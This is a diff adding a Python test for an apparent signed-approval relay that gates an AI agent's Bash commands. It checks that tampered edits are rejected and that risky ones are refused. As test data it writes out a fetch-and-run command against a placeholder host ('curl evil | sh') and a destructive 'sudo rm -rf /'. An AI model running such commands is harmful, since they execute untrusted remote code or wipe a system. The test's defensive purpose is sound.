@@ -146,6 +146,35 @@ def test_what_a_trusted_device_signed_runs_and_nothing_else(host: Host) -> None:
         assert host.end_of(other) == f"stale {reason}"
 
 
+def test_an_edit_runs_with_the_bytes_that_a_device_signed_and_with_no_others(host: Host) -> None:
+    device = Device()
+    host.trust(device)
+    edit = '{"command":"make test"}'
+    call = {"tool": "Bash", "input": {"command": "make", "n": 1.0}, "editable": ["command"]}
+    # Each allow, and what the relay makes of it.
+    swaps: list[tuple[dict[str, str], dict[str, str]]] = [
+        ({"decision": "edit", "edit": edit}, {"edit": '{"command":"curl evil | sh"}'}),
+        ({"decision": "edit", "edit": edit}, {"edit": '{"command": "make test"}'}),
+        ({"decision": "edit", "edit": edit}, {"decision": "allow"}),
+        ({"decision": "allow"}, {"decision": "edit", "edit": edit}),
+    ]
+    for number, (said, swapped) in enumerate(swaps):
+        asking, shown = host.ask(f"q{number}", **call)
+        signature = device.decide(shown, **{"verdict": said["decision"]} | {key: text for key, text in said.items() if key != "decision"})
+        sent = said | swapped
+        host.relay.decide(host.session, shown.approval, shown.digest, {key: sent[key] for key in sent if key != "edit" or sent["decision"] == "edit"}, signature)
+        assert not ran(asking.answer()), f"{said} ran as {sent}"
+        assert host.end_of(shown) == "stale badSignature"
+    asking, shown = host.ask("good", **call)
+    host.relay.decide(host.session, shown.approval, shown.digest, {"decision": "edit", "edit": edit}, device.decide(shown, "edit", edit=edit))
+    status, said = asking.answer()
+    assert status == 200 and said == {"decision": "allow", "input": {"command": "make test", "n": 1.0}}
+    asking, shown = host.ask("risky", **call)
+    risky = '{"command":"sudo rm -rf /"}'
+    host.relay.decide(host.session, shown.approval, shown.digest, {"decision": "edit", "edit": risky}, device.decide(shown, "edit", edit=risky))
+    assert not ran(asking.answer()) and host.end_of(shown) == "stale editRisky"
+
+
 def test_a_denial_needs_no_signature_and_brings_no_words_of_the_relay(host: Host) -> None:
     host.trust(Device())
     asking, shown = host.ask("q1")
